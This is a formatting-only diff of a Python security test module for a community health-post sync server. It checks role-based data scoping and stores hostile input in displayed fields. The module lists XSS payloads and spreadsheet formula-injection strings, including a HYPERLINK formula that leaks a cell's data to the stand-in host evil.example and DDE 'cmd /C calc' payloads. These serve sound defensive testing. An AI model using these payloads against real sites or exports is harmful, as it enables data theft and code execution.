@@ -19,8 +19,15 @@ from tests.support.servers import BACKENDS, database_url, reset_database, test_c
 HLC = itertools.count(1_764_000_000_000, 10)
 
 # One user per role, plus anonymous (None).
-ROLE_USERS = {"kader": "kader_a1", "bidan_desa": "bidan_a", "puskesmas": "pkm_a",
-              "kecamatan": "kec_a", "dinas": "dinas", "admin": "admin", "anonymous": None}
+ROLE_USERS = {
+    "kader": "kader_a1",
+    "bidan_desa": "bidan_a",
+    "puskesmas": "pkm_a",
+    "kecamatan": "kec_a",
+    "dinas": "dinas",
+    "admin": "admin",
+    "anonymous": None,
+}
 
 # Who may read each scope's records (DESIGN §5, tests/server/test_scope.py).
 READERS = {
@@ -42,8 +49,7 @@ MARKERS = {
 
 def forbidden_markers(username: str | None) -> set[str]:
     """Return the marker words ``username`` must never receive."""
-    return {m for scope, words in MARKERS.items() for m in words
-            if username not in READERS[scope]}
+    return {m for scope, words in MARKERS.items() for m in words if username not in READERS[scope]}
 
 
 def csrf_of(html: str) -> str:
@@ -55,8 +61,10 @@ class Caller:
     """A device signed in through the real login, using the in-process test client."""
 
     def __init__(self, client, username: str, device_name: str = "sec"):
-        response = client.post("/api/v1/auth/login", json={
-            "username": username, "password": world_mod.PASSWORD, "device_name": device_name})
+        response = client.post(
+            "/api/v1/auth/login",
+            json={"username": username, "password": world_mod.PASSWORD, "device_name": device_name},
+        )
         assert response.status_code == 200, response.text
         body = response.json
         self.client, self.username = client, username
@@ -69,18 +77,34 @@ class Caller:
         """Return the seq the next mutation will get."""
         return self._pending
 
-    def mutation(self, kind: str, fields: dict, *, record_id: str | None = None,
-                 op: str = "upsert", base_version: int | None = None) -> dict:
+    def mutation(
+        self,
+        kind: str,
+        fields: dict,
+        *,
+        record_id: str | None = None,
+        op: str = "upsert",
+        base_version: int | None = None,
+    ) -> dict:
         seq, self._pending = self._pending, self._pending + 1
-        return {"seq": seq, "id": record_id or fields["id"], "kind": kind, "op": op,
-                "base_version": base_version, "fields": fields,
-                "hlc": f"{next(HLC):016d}:00000:{self.device_id}",
-                "device_time": "2026-11-24T09:00:00+07:00"}
+        return {
+            "seq": seq,
+            "id": record_id or fields["id"],
+            "kind": kind,
+            "op": op,
+            "base_version": base_version,
+            "fields": fields,
+            "hlc": f"{next(HLC):016d}:00000:{self.device_id}",
+            "device_time": "2026-11-24T09:00:00+07:00",
+        }
 
     def push(self, *mutations: dict, device_id: str | None = None):
         """Push a batch; keep the seq counter in step with what the server consumed."""
-        response = self.client.post("/api/v1/sync/push", headers=self.headers, json={
-            "device_id": device_id or self.device_id, "mutations": list(mutations)})
+        response = self.client.post(
+            "/api/v1/sync/push",
+            headers=self.headers,
+            json={"device_id": device_id or self.device_id, "mutations": list(mutations)},
+        )
         self.sync_seq(response)
         return response
 
@@ -117,9 +141,14 @@ class Seeded:
             client = self.app.test_client()
             if username is not None:
                 page = client.get("/masuk")
-                response = client.post("/masuk", data={
-                    "username": username, "password": world_mod.PASSWORD,
-                    "csrf_token": csrf_of(page.text)})
+                response = client.post(
+                    "/masuk",
+                    data={
+                        "username": username,
+                        "password": world_mod.PASSWORD,
+                        "csrf_token": csrf_of(page.text),
+                    },
+                )
                 assert response.status_code == 302, response.text
             self._web[username] = client
         return self._web[username]
@@ -136,8 +165,10 @@ class Seeded:
         from server.extensions import db
 
         with self.app.app_context():
-            return tuple(db.session.execute(sa.text(f"SELECT count(*) FROM {t}")).scalar()
-                         for t in ("record", "mutation_log"))
+            return tuple(
+                db.session.execute(sa.text(f"SELECT count(*) FROM {t}")).scalar()
+                for t in ("record", "mutation_log")
+            )
 
     def record(self, record_id: str):
         from server.extensions import db
@@ -168,11 +199,17 @@ def seed(app, backend: str) -> Seeded:
         s.devices[username] = s.callers[username].device_id
     c = s.callers
     for scope, user, psy, desa, words in (
-            ("A1", "kader_a1", "PSY-A1", "6111012001", MARKERS["A1"]),
-            ("A2", "kader_a2", "PSY-A2", "6111012001", MARKERS["A2"]),
-            ("B1", "kader_b1", "PSY-B1", "6111022001", MARKERS["B1"])):
-        p = person(psy, desa_code=desa, name=f"Anak {words[0]}",
-                   mother_name=f"Ibu {words[0]}", birth_date="2025-06-10")
+        ("A1", "kader_a1", "PSY-A1", "6111012001", MARKERS["A1"]),
+        ("A2", "kader_a2", "PSY-A2", "6111012001", MARKERS["A2"]),
+        ("B1", "kader_b1", "PSY-B1", "6111022001", MARKERS["B1"]),
+    ):
+        p = person(
+            psy,
+            desa_code=desa,
+            name=f"Anak {words[0]}",
+            mother_name=f"Ibu {words[0]}",
+            birth_date="2025-06-10",
+        )
         assert c[user].push_ok("person", p)["status"] == "applied"
         v = child_visit(p, visit_date="2026-10-10")
         assert c[user].push_ok("child_visit", v)["status"] == "applied"
@@ -181,17 +218,34 @@ def seed(app, backend: str) -> Seeded:
     _make_conflict(c["kader_a1"], c["bidan_a"], s.persons["A1"], "Anak Zorbac", "Anak Zorbad")
     second_b1 = Caller(client, "kader_b1", "sec-2")
     _make_conflict(c["kader_b1"], second_b1, s.persons["B1"], "Anak Zorbbc", "Anak Zorbbd")
-    for scope, user, kec, words in (("LA", "kec_a", "611101", MARKERS["LA"]),
-                                    ("LB", "pkm_b", "611102", MARKERS["LB"])):
-        m = {"id": new_id(), "kecamatan_code": kec, "kind": "tribulanan_rutin", "year": 2026,
-             "quarter": 4, "meeting_date": "2026-10-10", "status": "held",
-             "chair_name": f"Camat {words[0]}", "venue": f"Aula {words[0]}",
-             "attendance": [{"name": f"Pak {words[0]}", "sector": "koramil"}],
-             "problems": [{"description": f"Masalah {words[0]}"}]}
+    for scope, user, kec, words in (
+        ("LA", "kec_a", "611101", MARKERS["LA"]),
+        ("LB", "pkm_b", "611102", MARKERS["LB"]),
+    ):
+        m = {
+            "id": new_id(),
+            "kecamatan_code": kec,
+            "kind": "tribulanan_rutin",
+            "year": 2026,
+            "quarter": 4,
+            "meeting_date": "2026-10-10",
+            "status": "held",
+            "chair_name": f"Camat {words[0]}",
+            "venue": f"Aula {words[0]}",
+            "attendance": [{"name": f"Pak {words[0]}", "sector": "koramil"}],
+            "problems": [{"description": f"Masalah {words[0]}"}],
+        }
         assert c[user].push_ok("lokmin_meeting", m)["status"] == "applied", user
-        a = {"id": new_id(), "meeting_id": m["id"], "kecamatan_code": kec,
-             "action": f"Tindak {words[1]}", "sector": "pkk", "pic_name": f"Bu {words[1]}",
-             "due_date": "2026-11-01", "status": "in_progress"}
+        a = {
+            "id": new_id(),
+            "meeting_id": m["id"],
+            "kecamatan_code": kec,
+            "action": f"Tindak {words[1]}",
+            "sector": "pkk",
+            "pic_name": f"Bu {words[1]}",
+            "due_date": "2026-11-01",
+            "status": "in_progress",
+        }
         assert c[user].push_ok("lokmin_agreement", a)["status"] == "applied", user
         s.meetings[scope], s.agreements[scope] = m["id"], a["id"]
     with app.app_context():
@@ -209,9 +263,12 @@ def make_app(backend: str, tmp_path_factory, **extra):
     from server import create_app
 
     tmp = tmp_path_factory.getbasetemp()
-    app = create_app(test_config(database_url(backend, str(tmp)),
-                                 PASSWORD_HASH_METHOD="pbkdf2:sha256:1000", **extra),
-                     instance_path=str(tmp / "instance"))
+    app = create_app(
+        test_config(
+            database_url(backend, str(tmp)), PASSWORD_HASH_METHOD="pbkdf2:sha256:1000", **extra
+        ),
+        instance_path=str(tmp / "instance"),
+    )
     reset_database(app)
     return app
 
@@ -234,12 +291,24 @@ def seeded(request, tmp_path_factory):
 
 # -- hostile text in every displayed field ---------------------------------------------------------
 
-XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
-       "</textarea><script>alert(1)</script>", "{{7*7}}", "</script><img src=x onerror=alert(1)>",
-       "'-alert(1)-'", "<svg onload=alert(1)>"]
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1",
-            "\uff1d1+1"]
+XSS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "{{7*7}}",
+    "</script><img src=x onerror=alert(1)>",
+    "'-alert(1)-'",
+    "<svg onload=alert(1)>",
+]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\uff1d1+1",
+]
 HOSTILE = XSS + FORMULAS
 
 
@@ -250,8 +319,14 @@ def add_hostile(s: Seeded) -> dict:
 
     c, stored = s.callers, {}
     for i, text in enumerate(HOSTILE):
-        p = person("PSY-A1", name=f"Anak {text}", mother_name=f"Ibu {text}", address=text,
-                   notes=text, birth_date="2025-06-10")
+        p = person(
+            "PSY-A1",
+            name=f"Anak {text}",
+            mother_name=f"Ibu {text}",
+            address=text,
+            notes=text,
+            birth_date="2025-06-10",
+        )
         assert c["kader_a1"].push_ok("person", p)["status"] == "applied", text
         v = child_visit(p, visit_date="2026-10-12", notes=text)
         assert c["kader_a1"].push_ok("child_visit", v)["status"] == "applied", text
@@ -259,19 +334,52 @@ def add_hostile(s: Seeded) -> dict:
     # The other kinds the pages show, with hostile notes (pregnancy, ANC, adult visit, posyandu
     # day, desa report).
     mother = s.persons["A1"]
-    pregnancy = {"id": new_id(), "person_id": mother, "posyandu_id": "PSY-A1",
-                 "registered_on": "2026-09-01", "notes": XSS[1]}
+    pregnancy = {
+        "id": new_id(),
+        "person_id": mother,
+        "posyandu_id": "PSY-A1",
+        "registered_on": "2026-09-01",
+        "notes": XSS[1],
+    }
     for kind, fields in (
-            ("pregnancy", pregnancy),
-            ("anc_visit", {"id": new_id(), "pregnancy_id": pregnancy["id"], "person_id": mother,
-                           "posyandu_id": "PSY-A1", "visit_date": "2026-10-12",
-                           "notes": XSS[0]}),
-            ("adult_visit", {"id": new_id(), "person_id": mother, "posyandu_id": "PSY-A1",
-                             "visit_date": "2026-10-12", "weight_kg": 61.5, "notes": XSS[3]}),
-            ("posyandu_session", {"id": new_id(), "posyandu_id": "PSY-A1", "opened": True,
-                                  "session_date": "2026-10-12", "notes": XSS[5]}),
-            ("desa_report", {"id": new_id(), "desa_code": "6111012001", "period": "2026-10",
-                             "notes": XSS[7]})):
+        ("pregnancy", pregnancy),
+        (
+            "anc_visit",
+            {
+                "id": new_id(),
+                "pregnancy_id": pregnancy["id"],
+                "person_id": mother,
+                "posyandu_id": "PSY-A1",
+                "visit_date": "2026-10-12",
+                "notes": XSS[0],
+            },
+        ),
+        (
+            "adult_visit",
+            {
+                "id": new_id(),
+                "person_id": mother,
+                "posyandu_id": "PSY-A1",
+                "visit_date": "2026-10-12",
+                "weight_kg": 61.5,
+                "notes": XSS[3],
+            },
+        ),
+        (
+            "posyandu_session",
+            {
+                "id": new_id(),
+                "posyandu_id": "PSY-A1",
+                "opened": True,
+                "session_date": "2026-10-12",
+                "notes": XSS[5],
+            },
+        ),
+        (
+            "desa_report",
+            {"id": new_id(), "desa_code": "6111012001", "period": "2026-10", "notes": XSS[7]},
+        ),
+    ):
         assert c["kader_a1"].push_ok(kind, fields)["status"] == "applied", kind
         stored[kind] = fields["id"]
     # A conflict whose two values are hostile (conflict page and its downloads).
@@ -280,24 +388,48 @@ def add_hostile(s: Seeded) -> dict:
     _make_conflict(c["kader_a1"], c["bidan_a"], p["id"], f"Anak {XSS[1]}", f"Anak {FORMULAS[0]}")
     # Posyandu names through the registry (admin), a hostile posyandu and a renamed one.
     for fid, name in (("PSY-A1", f"Posyandu {XSS[0]}"), ("PSY-A9", f"Posyandu {XSS[1]}")):
-        facility = {"id": fid, "code": fid, "name": name, "kind": "posyandu",
-                    "parent_id": "PKM-A", "desa_code": "6111012001",
-                    "kecamatan_code": "611101", "wilayah_kerja": []}
+        facility = {
+            "id": fid,
+            "code": fid,
+            "name": name,
+            "kind": "posyandu",
+            "parent_id": "PKM-A",
+            "desa_code": "6111012001",
+            "kecamatan_code": "611101",
+            "wilayah_kerja": [],
+        }
         base = s.record(fid)
-        result = c["admin"].push_ok("facility", facility,
-                                    base_version=base[1] if base else None)
+        result = c["admin"].push_ok("facility", facility, base_version=base[1] if base else None)
         assert result["status"] == "applied", result
     # Lokmin meeting and agreement texts (kecamatan A).
-    m = {"id": new_id(), "kecamatan_code": "611101", "kind": "tribulanan_rutin", "year": 2026,
-         "quarter": 4, "meeting_date": "2026-10-20", "status": "held", "venue": XSS[1],
-         "chair_name": XSS[0], "agenda": FORMULAS[0],
-         "attendance": [{"name": XSS[2], "sector": "pkk", "institution": FORMULAS[3]}],
-         "problems": [{"description": XSS[3]}]}
+    m = {
+        "id": new_id(),
+        "kecamatan_code": "611101",
+        "kind": "tribulanan_rutin",
+        "year": 2026,
+        "quarter": 4,
+        "meeting_date": "2026-10-20",
+        "status": "held",
+        "venue": XSS[1],
+        "chair_name": XSS[0],
+        "agenda": FORMULAS[0],
+        "attendance": [{"name": XSS[2], "sector": "pkk", "institution": FORMULAS[3]}],
+        "problems": [{"description": XSS[3]}],
+    }
     assert c["kec_a"].push_ok("lokmin_meeting", m)["status"] == "applied"
-    a = {"id": new_id(), "meeting_id": m["id"], "kecamatan_code": "611101",
-         "action": XSS[5], "sector": "pkk", "pic_name": FORMULAS[1], "pic_role": XSS[4],
-         "success_indicator": XSS[6], "progress_note": FORMULAS[2],
-         "due_date": "2026-11-01", "status": "in_progress"}
+    a = {
+        "id": new_id(),
+        "meeting_id": m["id"],
+        "kecamatan_code": "611101",
+        "action": XSS[5],
+        "sector": "pkk",
+        "pic_name": FORMULAS[1],
+        "pic_role": XSS[4],
+        "success_indicator": XSS[6],
+        "progress_note": FORMULAS[2],
+        "due_date": "2026-11-01",
+        "status": "in_progress",
+    }
     assert c["kec_a"].push_ok("lokmin_agreement", a)["status"] == "applied"
     # A user's display name and a device name.
     with s.app.app_context():
